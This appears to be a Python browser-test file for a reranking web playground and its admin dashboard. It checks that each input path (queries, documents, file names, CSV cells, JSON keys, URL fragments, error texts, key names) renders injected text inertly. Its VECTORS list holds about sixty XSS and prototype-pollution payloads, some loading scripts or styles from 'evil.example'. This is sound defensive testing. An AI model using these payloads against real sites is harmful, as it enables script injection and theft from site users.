#!/usr/bin/env python3
"""Texts that try to become markup or script, wherever the playground takes a text from: all are shown as the texts that they are.

Besides what is looked at here, a page of a test fails when the policy has to stop something, when a dialog opens and when
anything is asked of another origin.
"""
import json, os, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import browser, tap
from browser import ADMIN_KEY, expect, fragment_of, opened, ranked, told, upload, words

VECTORS = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script type=module>import('//evil.example/x.js')</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script\x0c>",
    "<img src=x onerror=alert(1)>", "<img src=//evil.example/x.png>", "<img src='x' onerror='alert(1)'/>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img/src/onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "</textarea><script>alert(1)</script>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x", "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>", "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "\" onmouseover=alert(1) autofocus onfocus=alert(1) x=\"", "' onfocus=alert(1) autofocus '", "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>", "`><img src=x onerror=alert(1)>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "{n}{name}<b>{query}</b>", "';alert(1);//", "</title><img src=x onerror=alert(1)>", "<xss contenteditable style='position:fixed;inset:0' onbeforeinput=alert(1)>x",
    "\u202e<img src=x onerror=alert(1)>", "＜script＞alert(1)＜/script＞", "<\u200bscript>alert(1)</script>", "__proto__", "constructor",
]
assert len(set(VECTORS)) == len(VECTORS) >= 40

# What the page holds of its own; nothing may be added to it.
OUTLINE = """() => ({
    tags: [...new Set([...document.querySelectorAll('*')].map((e) => e.localName))].sort(),
    heads: document.querySelectorAll('script, link, style, meta, base, img, iframe, object, embed').length,
    events: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
    links: [...document.querySelectorAll('[href], [src], [action], [data]')].map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? '').filter(
        (u) => !u.startsWith('/') && !u.startsWith('#')),
})"""


def unharmed(page, before, more=()):
    """Nothing but elements that a harmless text brings, too, and more."""
    after = page.evaluate(OUTLINE)
    added = set(after["tags"]) - set(before["tags"]) - {"mark", "dialog", "option", *more}
    assert not added, added
    assert after["heads"] == before["heads"] and after["events"] == 0 and after["links"] == [], after


def harmless(page):
    """The outline with a ranking on the page."""
    ranked(page)
    return page.evaluate(OUTLINE)


def test_documents_and_queries():
    with opened() as page:
        before = harmless(page)
        upload(page, "t.json", json.dumps({"query": " ".join(VECTORS[:12]), "documents": VECTORS}), "application/json")
        expect(page.locator("#count")).to_have_text(str(len(VECTORS)))
        ranked(page)
        cards = page.locator(".card")
        expect(cards).to_have_count(len(VECTORS))
        shown = dict(cards.evaluate_all("all => all.map((c) => [Number(c.dataset.index), c.querySelector('.text').textContent])"))
        assert [shown[i] for i in range(len(VECTORS))] == VECTORS
        unharmed(page, before)
        for name in page.get_by_role("tab").all_text_contents():
            page.get_by_role("tab", name=name, exact=True).click()
            unharmed(page, before)
        page.click("#view-moves")
        shown = page.locator(".moves ol").first.locator(".one-line")
        assert shown.all_text_contents() == VECTORS
        assert shown.evaluate_all("all => all.map((e) => e.title)") == VECTORS
        unharmed(page, before, ["svg", "path", "h3"])
        assert page.locator("svg").count() == 1


def test_every_vector_as_a_query():
    with opened() as page:
        before = harmless(page)
        for vector in VECTORS:
            page.fill("#query", vector)
            page.locator("#query").dispatch_event("input")
        expect(page.locator("#code")).to_contain_text(VECTORS[-1])
        for vector in VECTORS[::9]:
            page.fill("#query", vector)
            sent, _ = ranked(page)
            assert sent["query"] == vector
            unharmed(page, before)


def test_explanations():
    with opened() as page:
        before = harmless(page)
        upload(page, "t.json", json.dumps({"query": VECTORS[7], "documents": VECTORS[:40:4]}), "application/json")
        expect(page.locator("#count")).to_have_text("10")
        ranked(page)
        for card in page.locator(".card").all():
            card.get_by_role("button", name=words("why")).click()
            card.locator(".legend").wait_for()
            assert card.locator(".text").text_content() == VECTORS[:40:4][int(card.get_attribute("data-index"))]
        unharmed(page, before)


def drop(page, name, content):
    page.dispatch_event("body", "drop", {"dataTransfer": page.evaluate_handle("""([name, content]) => {
        const moved = new DataTransfer();
        moved.items.add(new File([content], name, {type: 'text/plain'}));
        return moved;
    }""", [name, content])})


def test_names_of_files():
    with opened() as page:
        before = harmless(page)
        for vector in VECTORS:
            drop(page, vector + ".txt", "one\ntwo")
            told(page, vector + ".txt")
            unharmed(page, before)
        drop(page, VECTORS[0] + ".csv", "a,b\n1,2\n")
        expect(page.get_by_role("dialog")).to_contain_text(words("choose-help", name=VECTORS[0] + ".csv", n=1))
        unharmed(page, before)


def quoted(cell):
    return '"' + cell.replace('"', '""') + '"'


def test_cells_and_columns_of_tables():
    with opened() as page:
        before = harmless(page)
        rows = [",".join(map(quoted, VECTORS)), ",".join(map(quoted, reversed(VECTORS)))]
        upload(page, "t.csv", "\n".join(rows) + "\n", "text/csv")
        box = page.get_by_role("dialog")
        expect(box).to_be_visible()
        labels = box.locator("label span:not(.sample)").all_text_contents()
        assert labels == VECTORS
        assert box.locator(".sample").all_text_contents() == [v[:80] for v in reversed(VECTORS)]
        unharmed(page, before)
        for choice in box.locator("input").all()[1:]:
            choice.check()
        box.get_by_role("button", name=words("use")).click()
        expect(page.locator("#count")).to_have_text("1")
        assert browser.texts(page) == ["\n".join(f"{a}: {b}" for a, b in zip(VECTORS, reversed(VECTORS)))]
        ranked(page)
        unharmed(page, before)


def test_keys_and_values_of_json():
    with opened() as page:
        before = harmless(page)
        upload(page, "t.jsonl", "\n".join(json.dumps({v: VECTORS[-1 - i], "also": {v: [v]}}) for i, v in enumerate(VECTORS)), "application/json")
        box = page.get_by_role("dialog")
        expect(box).to_be_visible()
        assert set(box.locator("label span:not(.sample)").all_text_contents()) == {"also", *VECTORS}
        unharmed(page, before)
        for choice in box.locator("input").all()[:4]:
            choice.check()
        box.get_by_role("button", name=words("use")).click()
        expect(page.locator("#count")).to_have_text(str(len(VECTORS)))
        ranked(page)
        unharmed(page, before)
        assert page.evaluate("Object.prototype.also") is None
        for vector in VECTORS:  # in the words of a mistake
            upload(page, "t.json", "{" + vector)
            told(page, words("file-json", reason=""))
        unharmed(page, before)


def test_links():
    with opened() as page:
        before = harmless(page)
    for vector in VECTORS[::16]:
        state = {"query": vector, "documents": VECTORS, "view": vector, "long": vector, "max_length": vector, "min_score": vector,
                 "top_n": vector, "model": vector, "compare": vector, "__proto__": {"query": vector}, vector: vector}
        with opened("/#s=" + fragment_of(json.dumps(state))) as page:
            expect(page.locator("#query")).to_have_value(vector)
            page.click("#rank")
            browser.at_rest(page)
            unharmed(page, before)
            assert page.evaluate("({}).query === undefined")
    for vector in VECTORS[::8]:  # the fragment itself
        with opened("/#" + vector) as page:
            expect(page.locator("#query")).not_to_have_value(vector)


def test_judgements_of_others():
    with opened() as page:
        before = harmless(page)
        with page.expect_file_chooser() as chooser:
            page.locator("#judgement-load").click()
        judged = [{"query": v, "documents": VECTORS, "grades": [1] * len(VECTORS)} for v in VECTORS]
        chooser.value.set_files({"name": "j.json", "mimeType": "application/json", "buffer": json.dumps(judged).encode()})
        told(page, words("judgement-loaded", n=len(VECTORS)))
        expect(page.locator("#query")).to_have_value(VECTORS[0])
        ranked(page)
        unharmed(page, before)
        page.reload()
        page.wait_for_selector("html[data-ready]", state="attached")


def test_words_of_refusals():
    with opened(allow=["status of 4"]) as page:
        before = harmless(page)
        for vector in VECTORS[::5]:
            page.route("**/v1/rerank", lambda route, _, v=vector: route.fulfill(status=422, json={"detail": v, "code": v, "request_id": v}), times=1)
            page.click("#rank")
            expect(page.locator("#status")).to_contain_text(vector.replace("\x0c", " "), use_inner_text=False)
            unharmed(page, before)


def test_names_of_keys():
    of = browser.server("--state-dir", browser.folder(), "--admin-key", ADMIN_KEY)
    fields = [("Content-Type", "application/json"), ("Authorization", f"Bearer {ADMIN_KEY}")]
    with opened("/dashboard#keys", of=of, key=ADMIN_KEY) as page:
        expect(page.locator("#part-keys table")).to_be_visible()
        before = page.evaluate(OUTLINE)
    made = {}
    for name in VECTORS:
        status, _, answer = of.request("POST", "/v1/admin/keys", fields, json.dumps({"name": name}).encode())
        if status == 201:  # names of keys are shorter than some of these, and have no control characters
            made[json.loads(answer)["id"]] = name
    assert len(made) >= 40, len(made)
    with opened("/dashboard#keys", of=of, key=ADMIN_KEY) as page:
        rows = page.locator("#part-keys tbody tr")
        expect(rows).to_have_count(len(made))
        shown = rows.evaluate_all("rows => rows.map((r) => [r.querySelector('code').textContent, r.cells[0].textContent])")
        assert dict(shown) == made
        unharmed(page, before, ["code", "span"])
        rows.filter(has_text=shown[0][0]).get_by_role("button", name=words("board-edit")).click()
        expect(page.locator("#key-name")).to_have_value(shown[0][1])
        page.keyboard.press("Escape")
        page.locator("#tab-usage").click()
        expect(page.locator("#used-whose")).to_contain_text(shown[-1][0])
        options = page.locator("#used-whose option").all_text_contents()
        assert {f"{name} ({one})" for one, name in made.items()} <= set(options), options
        after = page.evaluate(OUTLINE)
        assert after["heads"] == before["heads"] and after["events"] == 0 and after["links"] == [], after


if __name__ == "__main__":
    tap.main(globals())
